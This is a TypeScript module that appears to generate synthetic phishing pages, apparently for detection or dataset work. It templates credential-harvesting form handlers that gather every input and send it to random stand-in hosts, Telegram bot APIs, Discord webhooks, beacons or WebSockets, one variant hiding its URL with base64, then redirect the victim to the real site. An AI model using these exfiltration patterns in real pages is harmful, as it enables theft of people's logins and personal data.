import type { Chance } from '../../make/chance.ts'
import type { Claim } from './targets.ts'

/** Where a form sends what was typed: its attributes, the code that runs, and what a button calls where there is no form. */
export interface Sink {
  readonly attributes: Readonly<Record<string, string>>
  /** A script that defines what the attributes call; empty where the browser itself sends. */
  readonly code: string
  readonly press?: string
}

const FILES = ['post.php', 'process.php', 'go.php', 'api/save', 'submit', 'data/in.php', 'r.php', 'step2.php']
const far = (chance: Chance) =>
  `https://${chance.of([`${chance.name(3)}.${chance.of(['ru', 'com', 'shop', 'site', 'co', 'pw'])}`, `${chance.name(2)}.${chance.of(['workers.dev', 'onrender.com', 'deno.dev', 'fly.dev'])}`])}/${chance.of(['', 'v1/', 'x/', 'panel/'])}${chance.of(FILES)}`
const service = (chance: Chance) =>
  chance.of([
    `https://formspree.io/f/x${chance.letters(7)}`,
    `https://formsubmit.co/${chance.hex(32)}`,
    `https://formcarry.com/s/${chance.letters(10)}`,
    `https://api.staticforms.xyz/submit`,
    `https://script.google.com/macros/s/AKfycb${chance.hex(44)}/exec`,
  ])

type Sending = (chance: Chance, near: string) => string

/** Statements that send off `o`, an object of names and values. */
const SENDINGS: readonly Sending[] = [
  (chance) =>
    `fetch("https://api.telegram.org/bot${chance.digits(10)}:AA${chance.letters(33)}/sendMessage",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({chat_id:"${chance.digits(10)}",text:JSON.stringify(o)})})`,
  (chance) =>
    `fetch(atob("${btoa(`https://api.telegram.org/bot${chance.digits(10)}:AA${chance.letters(33)}/sendMessage`)}")+"?chat_id=-100${chance.digits(10)}&text="+encodeURIComponent(Object.values(o).join(" | ")))`,
  (_, near) => `fetch("${near}",{method:"POST",body:new URLSearchParams(o)})`,
  (chance) => `var x=new XMLHttpRequest();x.open("POST","${far(chance)}");x.send(JSON.stringify(o))`,
  (chance) => `navigator.sendBeacon("${far(chance)}",JSON.stringify(o))`,
  (chance) => `new Image().src="${far(chance)}?q="+btoa(unescape(encodeURIComponent(JSON.stringify(o))))`,
  (chance) =>
    `var s=new WebSocket("wss://${chance.name(3)}.${chance.of(['top', 'live', 'cc'])}/ws");s.onopen=function(){s.send(JSON.stringify(o))}`,
  (chance) =>
    `fetch("https://discord.com/api/webhooks/${chance.digits(19)}/${chance.letters(40)}",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({content:JSON.stringify(o)})})`,
]

function byScript({ domain }: Claim, near: string, chance: Chance): Sink {
  const name = chance.of([`s${chance.letters(4)}`, `_0x${chance.hex(4)}`, `on${chance.letters(5)}`])
  const send = chance.of(SENDINGS)(chance, near)
  const after = chance.of([
    `setTimeout(function(){top.location.href="https://www.${domain}/"},900)`,
    'f.style.opacity=".4"',
    'f.querySelectorAll("input").forEach(function(i){i.value=""})',
  ])
  const code = `window["${name}"]=function(f){var o={};f.querySelectorAll("input,textarea").forEach(function(i){if(i.name)o[i.name]=i.value});${send};${after};return false};`
  return { attributes: { onsubmit: `return ${name}(this)` }, code, press: `${name}(this.parentNode)` }
}

/** One of the ways that kits send; `url` is the page's own address. */
export function sinkOf(claim: Claim, url: string, chance: Chance): Sink {
  const near = new URL(chance.of(FILES), url).href
  const roll = chance.below(10)
  if (roll < 5) return byScript(claim, near, chance)
  const action = roll < 7 ? near : roll < 9 ? far(chance) : service(chance)
  return { attributes: { method: chance.of(['post', 'POST']), action }, code: '' }
}
